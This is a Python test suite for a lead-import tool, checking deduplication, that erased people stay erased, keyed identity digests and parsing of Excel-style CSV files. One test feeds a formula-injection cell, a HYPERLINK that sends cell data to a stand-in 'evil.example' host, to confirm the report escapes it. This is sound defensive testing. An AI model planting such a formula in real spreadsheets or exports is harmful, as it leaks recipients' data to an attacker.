"""Recovery (issue 17) against Azurite: ``import`` never merges two people, never takes in again a
lead the store has, never brings an erased person back; and every digest made of personal data
is keyed (``LEADS_ID_KEY``), so a kept id cannot be recomputed from the person's details."""

from __future__ import annotations

import hashlib
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from leads.core.normalise import from_http_body
from leads.core.settings import get_settings
from leads.core.storage import table_service
from leads.delivery import deliver
from leads.destinations.routing import plan
from leads.intake.imports import import_file
from leads.intake.ingest import accept_http
from leads.store import erasure
from leads.store.lead_store import LeadStore

from .test_erasure import left_behind, person

NOW = datetime.now(UTC).replace(microsecond=0)


@pytest.fixture
def store(storage, env):
    env(
        EMAIL_TO="sales@contoso.example",
        WEBHOOK_URL="",
        LEADS_BACKFILL_DAYS="7",
    )
    return LeadStore.from_settings()


def outbox() -> Path:
    return Path(get_settings().email_outbox_dir)


def mails() -> list[str]:
    return sorted(path.name for path in outbox().glob("*.eml")) if outbox().is_dir() else []


def http_body(who: dict[str, str], offer: str = "Contoso CRM") -> dict:
    return {
        "UserDetails": {
            "FirstName": who["FirstName"],
            "LastName": who["LastName"],
            "Email": who["Email"],
            "Company": who["Company"],
        },
        "LeadSource": "AzureMarketplace",
        "ActionCode": "INS",
        "OfferTitle": offer,
    }


def take_in(body: dict) -> str:
    answer = accept_http(json.dumps(body).encode())
    assert answer.status == 202, answer.body
    return answer.body["leadId"]


def partner_center_csv(path: Path, rows: list[dict[str, str]], date_header: str = "Created Date") -> Path:
    lines = [f"First Name,Last Name,Email,Company,Offer Name,{date_header}"]
    lines += [
        ",".join(
            [
                row["FirstName"],
                row["LastName"],
                row["Email"],
                row["Company"],
                row.get("Offer", "Contoso CRM"),
                row["Created"],
            ]
        )
        for row in rows
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def emails_stored(store: LeadStore) -> list[str | None]:
    return sorted((lead.email or "") for lead in store.list(limit=None))


# --- 1. two people are never matched as one (reproduction 05) ------------------------------------


def test_two_rows_naming_different_emails_are_two_people_whatever_their_names(store, tmp_path):
    tag = uuid.uuid4().hex[:6]
    wei = {"FirstName": "Wei", "LastName": f"Zhang{tag}", "Company": "Microsoft"}
    take_in(http_body({**wei, "Email": f"wei.zhang{tag}@microsoft.com"}))
    other = {**wei, "Email": f"wzhang2{tag}@microsoft.com", "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}
    report = import_file(partner_center_csv(tmp_path / "pc.csv", [other]))
    assert (report.already_received, report.imported) == (0, 1)
    assert emails_stored(store) == sorted([f"wei.zhang{tag}@microsoft.com", f"wzhang2{tag}@microsoft.com"])
    # A row naming no email is matched by name and company, as docs/import.md says.
    nameless = {**wei, "Email": "", "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}
    again = import_file(partner_center_csv(tmp_path / "pc2.csv", [nameless]))
    assert (again.already_received, again.imported) == (1, 0)


# --- 2. a row without a date is matched over Partner Center's whole window (reproduction 06) ----


def stored_days_ago(store: LeadStore, body: dict, days: float) -> str:
    """A lead the HTTP intake took in ``days`` ago, and its mail sent."""
    lead = from_http_body(body, received_at=datetime.now(UTC) - timedelta(days=days))
    stored = store.add_http(lead, timedelta(hours=24), plan(lead, get_settings()))
    assert deliver.deliver(stored.lead_id, "email").state == "delivered"
    return stored.lead_id


@pytest.mark.parametrize("kind", ["bodies.jsonl", "lead-created.csv"])
def test_a_lead_stored_days_ago_is_not_taken_in_again_from_a_file_without_a_known_date(store, tmp_path, kind):
    who = person()
    body = http_body(who)
    first = stored_days_ago(store, body, days=3)
    path = tmp_path / kind
    if kind.endswith(".jsonl"):
        path.write_text(json.dumps(body) + "\n")  # as the marketplace POSTs it: no created time
    else:
        created = f"{datetime.now(UTC) - timedelta(days=3):%Y-%m-%d}"
        partner_center_csv(path, [{**who, "Created": created}], date_header="Lead Created")
    report = import_file(path)
    assert (report.read, report.already_received, report.imported, report.imported_not_sent) == (1, 1, 0, 0)
    assert [lead.lead_id for lead in store.list(limit=None)] == [first]
    assert len(mails()) == 1
    if kind.endswith(".csv"):  # the date column it did not recognise is named, with the option to give
        assert any("Lead Created" in warning and "--column createdAt=" in warning for warning in report.warnings)


# --- 3. an erased person never comes back (reproduction 07) ---------------------------------------


def test_an_import_after_forget_keeps_nothing_of_the_erased_person_and_mails_no_one(store, tmp_path):
    who = person()
    lead_id = take_in(http_body(who))
    assert deliver.deliver(lead_id, "email").state == "delivered"
    erasure.forget_email(who["Email"])
    assert mails() == []
    # The maintenance run's verify --repair removes stale identity rows: a tombstone is none of them.
    from leads.store.verify import verify

    verify(repair=True, now=datetime.now(UTC) + timedelta(days=1))
    row = {**who, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}
    report = import_file(partner_center_csv(tmp_path / "pc.csv", [row]))
    assert (report.read, report.erased, report.imported, report.already_received) == (1, 1, 0, 0)
    assert [lead.lead_id for lead in store.list(limit=None)] == [lead_id]
    assert left_behind([who["FirstName"], who["LastName"], who["Email"], who["Company"]], outbox()) == []
    assert mails() == []


# --- 4. ids and index rows are keyed digests (reproduction 09) ---------------------------------------


def unkeyed(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def every_value() -> str:
    """Every key and value of every entity of the app's tables, as one text."""
    settings = get_settings()
    service = table_service(settings.storage_connection)
    parts = []
    for table in service.list_tables():
        if table.name.startswith(settings.table_prefix):
            for entity in service.get_table_client(table.name).query_entities(""):
                parts += [f"{key}={value}" for key, value in entity.items()]
    return "\n".join(parts)


def test_an_erased_leads_id_and_rows_cannot_be_recomputed_from_the_persons_details(store):
    who = person()
    body = http_body(who)
    lead_id = take_in(body)
    lead = from_http_body(body)
    content = json.dumps(
        lead.model_dump(exclude={"lead_id", "received_at", "channel", "raw"}),
        sort_keys=True,
        ensure_ascii=False,
        default=str,
    )
    guess = "h" + unkeyed(content)[:24]  # what the version before gave it: SHA-256 of the content
    assert lead_id != guess
    email = who["Email"].casefold()
    guesses = [unkeyed(email)[:32], unkeyed(f"email|{email}|contoso crm")[:32]]
    assert [digest for digest in guesses if digest in every_value()] == []  # nor any index row
    erasure.forget_email(who["Email"])
    kept = every_value()
    assert guess not in kept and [digest for digest in guesses if digest in kept] == []
    # The content row (a count under a digest of the content) goes with the lead's data.
    assert [entity["RowKey"] for entity in store.leads.query_entities("RowKey eq 'content'")] == []


# --- the round trip (issue 17, "Done when") -----------------------------------------------------------

# Leads taken in by HTTP and by the table poll, a few forgotten or retained away, then Partner
# Center's downloads of all of them and of those the app never got (lost while its endpoint was
# down this week), imported twice: the download of the last six months (UTF-16) and, given with it,
# one of a shorter range that the first holds too (';', a date header the importer must be told),
# 5,000 rows and more. Every distinct lead costs its storage requests once, wherever it is stored
# (some 30 ms of this process's CPU each, mostly the SDK's): overlapping downloads keep the rows
# over 5,000 with half as many leads, and test that a lead in two files is taken in once.
RETAINED, HTTP_LEADS, TABLE_LEADS, FORGOTTEN, LOST, SHORTER_RANGE = 40, 300, 300, 40, 1920, 2500
OFFER = "Contoso CRM"


def people(prefix: str, count: int) -> list[dict[str, str]]:
    tag = uuid.uuid4().hex[:6]
    return [
        {
            "FirstName": f"{prefix}{index}",
            "LastName": f"Rt{tag}",
            "Email": f"{prefix.lower()}{index}.{tag}@fabrikam.example",
            "Company": f"Fabrikam {tag}",
        }
        for index in range(count)
    ]


def take_in_by_http(persons: list[dict[str, str]]) -> dict[str, str]:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(8) as pool:
        return dict(
            zip((who["Email"] for who in persons), pool.map(lambda who: take_in(http_body(who)), persons), strict=True)
        )


def take_in_by_table(persons: list[dict[str, str]]) -> dict[str, str]:
    from leads.core.normalise import table_lead_id
    from leads.intake.poll import _recently_stored, poll_marketplace

    settings = get_settings()
    table = table_service(settings.storage_connection).get_table_client(settings.marketplace_table_name)
    table.create_table()
    day, rows = f"{datetime.now(UTC):%Y-%m-%d}", {}
    for start in range(0, len(persons), 100):
        batch = [
            {
                "PartitionKey": day,
                "RowKey": uuid.uuid4().hex,
                "LeadSource": "AzureMarketplace",
                "ActionCode": "INS",
                "OfferDisplayName": OFFER,
                "CustomerInfo": json.dumps(who),
            }
            for who in persons[start : start + 100]
        ]
        table.submit_transaction([("create", row) for row in batch])
        rows.update(
            {
                json.loads(row["CustomerInfo"])["Email"]: table_lead_id(table.table_name, day, row["RowKey"])
                for row in batch
            }
        )
    _recently_stored.clear()
    assert poll_marketplace().stored == len(persons)
    return rows


def write_partner_center(
    path: Path,
    persons: list[dict[str, str]],
    created: dict[str, datetime],
    *,
    encoding: str,
    delimiter: str,
    date_header: str,
    date_format: str,
) -> None:
    import csv

    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(["First Name", "Last Name", "Email", "Company Name", "Offer Name", date_header])
        writer.writerows(
            [
                who["FirstName"],
                who["LastName"],
                who["Email"],
                who["Company"],
                OFFER,
                f"{created[who['Email']]:{date_format}}",
            ]
            for who in persons
        )


def queued() -> int:
    from leads.delivery.queue import delivery_queue

    queue = delivery_queue(get_settings())
    queue._ensure()
    return queue.client.get_queue_properties().approximate_message_count


@pytest.mark.timeout(600)  # some two minutes on a loaded 2-core machine: see the sizes above
def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_nothing_twice_and_merges_no_one(
    store, env, tmp_path, capsys
):
    from leads.cli import main
    from leads.store.identities import CROWDED

    env(LEADS_RETENTION_DAYS="1")
    taken_in = datetime.now(UTC)  # when the leads below arrived, give or take a minute or two
    retained = people("Ret", RETAINED)
    stored = take_in_by_http(retained)
    retention_cut = datetime.now(UTC)
    by_http, by_table, lost = people("Http", HTTP_LEADS), people("Tab", TABLE_LEADS), people("Lost", LOST)
    wei = {"FirstName": "Wei", "LastName": f"Zhang{uuid.uuid4().hex[:6]}", "Company": "Microsoft"}
    wei_stored, wei_lost = (
        {**wei, "Email": f"wei.zhang.{wei['LastName']}@microsoft.com"},
        {**wei, "Email": f"wzhang2.{wei['LastName']}@microsoft.com"},
    )
    stored |= take_in_by_http([*by_http, wei_stored]) | take_in_by_table(by_table)
    test_lead = take_in(
        {
            **http_body(
                {
                    "FirstName": "MSFT_TEST_1",
                    "LastName": "MSFT_TEST_1",
                    "Email": "MSFT_TEST_1@test.com",
                    "Company": "MSFT_TEST_1",
                }
            )
        }
    )

    forgotten = [*by_http[: FORGOTTEN // 2], *by_table[: FORGOTTEN // 2]]
    for who in by_http[: FORGOTTEN // 2]:
        assert erasure.forget_email(who["Email"]).leads == [stored[who["Email"]]]
    for who in by_table[: FORGOTTEN // 2]:
        assert erasure.forget_lead(stored[who["Email"]]).leads == [stored[who["Email"]]]
    assert len(erasure.apply_retention(now=retention_cut + timedelta(days=1)).leads) == RETAINED
    erased = {who["Email"] for who in [*retained, *forgotten]}

    # Partner Center's download: every lead, and those the app never got; 5,000 rows a file at most.
    now = datetime.now(UTC)
    everyone = [*retained, *by_http, wei_stored, *by_table, *lost, wei_lost]
    # Partner Center's created time is a little before the app's received time (a day matches).
    created = {who["Email"]: taken_in - timedelta(minutes=3) for who in everyone}
    created |= {who["Email"]: now - timedelta(minutes=2 * index + 30) for index, who in enumerate(lost)}
    shorter = everyone[-SHORTER_RANGE:]
    first, second = tmp_path / "leads-6-months.txt", tmp_path / "leads-this-week.csv"
    # Excel's "Unicode Text": UTF-16 with a BOM, tab-separated; then one whose date header import must be told.
    write_partner_center(
        first,
        everyone,
        created,
        encoding="utf-16",
        delimiter="\t",
        date_header="Created Date",
        date_format="%m/%d/%Y %I:%M:%S %p",
    )
    write_partner_center(
        second,
        shorter,
        created,
        encoding="utf-8-sig",
        delimiter=";",
        date_header="Lead Created",
        date_format="%Y-%m-%dT%H:%M:%SZ",
    )
    rows = len(everyone) + len(shorter)
    assert rows > 5000 and len(everyone) <= 5000
    erased_rows = len(erased) + sum(who["Email"] in erased for who in shorter)

    before = queued()
    command = [
        "--settings",
        "none",
        "import",
        str(first),
        str(second),
        "--format",
        "partner-center",
        "--column",
        "createdAt=Lead Created",
        "--json",
    ]
    reports = []
    for _ in range(2):
        assert main(command) == 0
        reports.append(json.loads(capsys.readouterr().out))
    one, two = reports
    new = LOST + 1  # the lost leads and the other Wei Zhang, all of this week: sent
    assert [part["encoding"] for part in one["files"]] == ["UTF-16 LE with a BOM", "UTF-8 with a BOM"]
    assert [part["delimiter"] for part in one["files"]] == ["\t", ";"]
    assert (one["read"], one["erased"], one["importedAndQueued"], one["importedNotSent"], one["refused"]) == (
        rows,
        erased_rows,
        new,
        0,
        [],
    )
    assert one["alreadyReceived"] == rows - erased_rows - new
    assert one["files"][1]["importedAndQueued"] == 0  # the second file's leads: all in the first
    assert (two["read"], two["erased"], two["importedAndQueued"], two["alreadyReceived"]) == (
        rows,
        erased_rows,
        0,
        rows - erased_rows,
    )
    for report in reports:  # the counts add up, per file and in all
        for part in report["files"]:
            assert (
                part["alreadyReceived"]
                + part["erased"]
                + part["importedAndQueued"]
                + part["importedNotSent"]
                + part["refused"]
                == part["read"]
            )
        # What the store has that the files do not: the marketplace's test lead.
        assert [(item["leadId"], item["test"]) for item in report["inStoreNotInFiles"]] == [(test_lead, True)]

    # Nothing sent twice: a message for each lead the files brought, once.
    assert queued() == before + new
    leads = store.list(limit=None)
    emails = [lead.email for lead in leads if lead.email]
    assert len(emails) == len(set(emails)) == len(everyone) - len(erased) + 1  # and the test lead
    # Nobody merged: both Wei Zhangs are leads. Nothing erased is back: no lead, identity or email row.
    assert {wei_stored["Email"], wei_lost["Email"]} <= set(emails) and not erased & set(emails)
    for address in sorted(erased)[:40]:
        assert [row for row in store.identities.email_rows(address) if row["PartitionKey"] != CROWDED] == []
    sample = [who for who in [*retained, *forgotten] if who["Email"] in erased][:5]
    assert left_behind([value for who in sample for value in (who["FirstName"], who["Email"])], outbox()) == []


# --- files as people have them ----------------------------------------------------------------------


def test_encodings_and_delimiters_excel_writes_are_told_and_said(store, tmp_path):
    rows = [["First Name", "Last Name", "Email", "Company", "Offer Name", "Created Date"]]
    rows += [
        [
            "José",
            f"Müller{index}",
            f"jose{index}.{uuid.uuid4().hex[:6]}@fabrikam.example",
            "Zoë & Co",
            "Contoso CRM",
            f"{NOW:%Y-%m-%d %H:%M:%S}",
        ]
        for index in range(4)
    ]
    cases = {
        "utf-8-sig": (",", "UTF-8 with a BOM"),
        "utf-16": ("\t", "UTF-16 LE with a BOM"),
        "cp1252": (";", "Windows-1252"),
        "utf-8": (",", "UTF-8"),
    }
    for index, (encoding, (delimiter, said)) in enumerate(cases.items()):
        path = tmp_path / f"leads-{encoding}.csv"
        own = [rows[0]] + [[*cells[:2], f"{index}.{cells[2]}", cells[3] + str(index), *cells[4:]] for cells in rows[1:]]
        path.write_bytes("".join(delimiter.join(cells) + "\r\n" for cells in own).encode(encoding))
        report = import_file(path)
        assert (report.files[0].encoding.split(" (")[0], report.files[0].delimiter) == (said, delimiter)
        assert (report.read, report.imported, report.refused) == (4, 4, [])
    companies = {lead.company for lead in store.list(limit=None)}
    assert companies == {f"Zoë & Co{index}" for index in range(4)}  # read as written, whatever the encoding
    assert {lead.first_name for lead in store.list(limit=None)} == {"José"}


def test_a_bad_row_is_refused_with_its_line_and_the_rest_goes_on(store, tmp_path):
    tag = uuid.uuid4().hex[:6]
    head = b"First Name,Last Name,Email,Company,Offer Name,Created Date\r\n"

    def row(index: int, comment: str = "") -> bytes:
        return (
            f'Ann,Lee{index},ann{index}.{tag}@fabrikam.example,"Fabrikam, Ltd",Contoso CRM,{NOW:%Y-%m-%d}\r\n'.encode()
        )

    body = (
        head
        + row(0)  # line 2
        + b"Bob,Lee1,bob."
        + tag.encode()
        + b'@fabrikam.example,"two\r\nlines",Contoso CRM,'
        + f"{NOW:%Y-%m-%d}".encode()
        + b"\r\n"  # lines 3-4: a quoted field holding a line break
        + b"Caf\xe9,Lee2,cafe."
        + tag.encode()
        + b"@fabrikam.example,Fabrikam,Contoso CRM,2026-01-01\r\n"  # line 5
        + b"Dee,Lee3,dee."
        + tag.encode()
        + b'@fabrikam.example,"'
        + b"x" * 200_000
        + b'",Contoso CRM,2026-01-01\r\n'
        + row(4)
        + row(5)  # lines 7 and 8
        + b"Eve,Lee6,eve."
        + tag.encode()
        + b'@fabrikam.example,"never closed,Contoso CRM\r\n'
    )
    path = tmp_path / "leads.csv"
    path.write_bytes(body)
    report = import_file(path, encoding="utf-8")  # as told: byte 0xE9 on line 5 is not UTF-8
    assert [(item["row"], item["reason"].split(":")[0].split(" (")[0]) for item in report.refused] == [
        (5, "it holds bytes that are not text in the file's encoding"),
        (6, "a field is longer than the CSV reader's limit"),
        (9, "a quoted field opened on line 9 is never closed"),
    ]
    assert (report.read, report.imported) == (7, 4)
    assert sorted(lead.last_name for lead in store.list(limit=None)) == ["Lee0", "Lee1", "Lee4", "Lee5"]
    assert {lead.company for lead in store.list(limit=None)} >= {"Fabrikam, Ltd", "two lines"}


def test_a_cell_that_looks_like_a_formula_is_kept_as_text_and_escaped_in_the_csv_report(store, tmp_path, capsys):
    from leads.cli import main

    tag = uuid.uuid4().hex[:6]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    path = tmp_path / "leads.csv"
    path.write_text(
        "First Name,Last Name,Email,Company,Offer Name,Created Date\n"
        f'@SUM(1+1),-Lee,ann.{tag}@fabrikam.example,"{formula.replace(chr(34), chr(34) * 2)}",'
        f"+Contoso CRM,{NOW:%Y-%m-%d}\n",
        encoding="utf-8",
    )
    out = tmp_path / "report.csv"
    assert main(["--settings", "none", "import", str(path), "--csv", str(out)]) == 0
    [lead] = store.list(limit=None)
    assert (lead.first_name, lead.last_name, lead.company, lead.offer_title) == (
        "@SUM(1+1)",
        "-Lee",
        formula,
        "+Contoso CRM",
    )
    import csv

    [header, row] = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert header == ["file", "row", "outcome", "leadId", "matched", "offer", "reason"]
    assert row[2:4] == ["imported", lead.lead_id] and row[5] == "'+Contoso CRM"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    capsys.readouterr()


def test_the_report_lists_what_the_store_has_for_the_files_offers_and_days_that_they_lack(store, tmp_path, capsys):
    from leads.cli import main

    listed, unlisted, other_offer = person(), person(), person()
    take_in(http_body(listed))
    extra = take_in(http_body(unlisted))  # another app writing to the endpoint, say
    take_in(http_body(other_offer, offer="Fabrikam Fax"))  # not an offer the file covers
    path = partner_center_csv(tmp_path / "pc.csv", [{**listed, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}])
    assert main(["--settings", "none", "import", str(path), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["alreadyReceived"] == 1
    assert [
        (item["leadId"], item["channel"], item["offer"], item["erased"]) for item in report["inStoreNotInFiles"]
    ] == [(extra, "http", "Contoso CRM", False)]
    assert main(["--settings", "none", "import", str(path)]) == 0
    assert f"{extra} received" in capsys.readouterr().out


def test_several_files_in_one_run_report_each_and_all_and_a_lead_in_both_is_taken_in_once(store, tmp_path, capsys):
    from leads.cli import main

    first, both, last = person(), person(), person()
    created = f"{NOW:%m/%d/%Y %I:%M:%S %p}"
    one = partner_center_csv(tmp_path / "one.csv", [{**first, "Created": created}, {**both, "Created": created}])
    # The same lead in the next download, its date written otherwise (so the row is not the same text).
    two = partner_center_csv(
        tmp_path / "two.csv", [{**both, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}, {**last, "Created": created}]
    )
    assert main(["--settings", "none", "import", str(one), str(two)]) == 0
    text = capsys.readouterr().out
    assert (
        "one.csv (partner-center" in text and "two.csv (partner-center" in text and "all 2 files: 4 rows read" in text
    )
    assert sorted(emails_stored(store)) == sorted(who["Email"] for who in (first, both, last))


def test_a_row_without_a_date_that_is_new_is_stored_unsent_until_asked(store, tmp_path):
    from leads.ops.operations import replay

    path = tmp_path / "bodies.jsonl"
    path.write_text(json.dumps(http_body(person())) + "\n")
    report = import_file(path)
    assert (report.imported, report.imported_not_sent) == (0, 1)
    assert any("1 rows have no created time" in warning for warning in report.warnings)
    [lead] = store.list(limit=None)
    [email] = store.deliveries.for_lead(lead.lead_id)
    assert email.state == "skipped" and "without a created date" in email.last_error
    assert [delivery.lead_id for delivery in replay(skipped=True)] == [lead.lead_id]  # as old leads are


# --- erased stays erased, by every way in ------------------------------------------------------------


def test_an_import_after_retention_keeps_nothing_of_the_retained_lead(store, env, tmp_path):
    who = person()
    lead = from_http_body(http_body(who), received_at=NOW - timedelta(days=40))
    store.add_http(lead, timedelta(hours=24), plan(lead, get_settings()))
    env(LEADS_RETENTION_DAYS="30")
    assert len(erasure.apply_retention().leads) == 1
    row = {**who, "Created": f"{NOW - timedelta(days=40):%Y-%m-%d %H:%M:%S}"}
    report = import_file(partner_center_csv(tmp_path / "pc.csv", [row]))
    assert (report.erased, report.imported, report.imported_not_sent) == (1, 0, 0)
    assert left_behind([who["FirstName"], who["Email"]], outbox()) == []


def test_a_marketplace_row_rewritten_after_forget_is_reported_erased_and_kept_out(store):
    from leads.intake.poll import _recently_stored, poll_marketplace

    settings = get_settings()
    table = table_service(settings.storage_connection).get_table_client(settings.marketplace_table_name)
    table.create_table()
    who = person()
    row = {
        "PartitionKey": f"{NOW:%Y-%m-%d}",
        "RowKey": uuid.uuid4().hex,
        "LeadSource": "AzureMarketplace",
        "ActionCode": "INS",
        "OfferDisplayName": "Contoso CRM",
        "CustomerInfo": json.dumps(who),
    }
    table.create_entity(row)
    _recently_stored.clear()
    assert poll_marketplace().stored == 1
    [lead] = store.list(limit=None)
    erasure.forget_lead(lead.lead_id)
    table.update_entity({**row, "Description": "rewritten by the marketplace"})  # a new Timestamp and ETag
    again = poll_marketplace(full_scan=True)
    assert (again.erased, again.stored) == (1, 0) and "erased (not taken in) 1" in again.summary()
    assert left_behind([who["FirstName"], who["Email"]], outbox()) == []


def test_rows_an_earlier_version_wrote_with_plain_digests_are_matched_and_erased(store, env, tmp_path):
    who = person()
    env(LEADS_ID_KEY="")  # the version before the key: plain SHA-256 digests everywhere
    old_id = take_in(http_body(who))
    from leads.store.identities import email_row_key

    rows = list(store.identities.table.query_entities(""))
    keys = {email_row_key(row)[0] for row in rows if email_row_key(row)}
    assert f"email|{unkeyed(who['Email'].casefold())[:32]}" in keys
    env(LEADS_ID_KEY="test-key-of-the-suite-0123456789abcdef")
    path = partner_center_csv(tmp_path / "pc.csv", [{**who, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}])
    assert import_file(path).already_received == 1
    done = erasure.forget_email(who["Email"])
    assert done.leads == [old_id]
    assert [row["RowKey"] for row in store.identities.table.query_entities("")] == [f"erased|{old_id}"]
    assert import_file(path).erased == 1


def test_excels_sep_line_names_the_delimiter(store, tmp_path):
    who = person()
    path = tmp_path / "leads.csv"
    path.write_text(
        f"sep=;\nFirst Name;Last Name;Email;Company;Offer Name;Created Date\n"
        f"{who['FirstName']};{who['LastName']};{who['Email']};{who['Company']};Contoso CRM;{NOW:%Y-%m-%d}\n"
    )
    report = import_file(path)
    assert (report.files[0].delimiter, report.mapping["email"], report.imported) == (";", "Email", 1)
    assert emails_stored(store) == [who["Email"]]
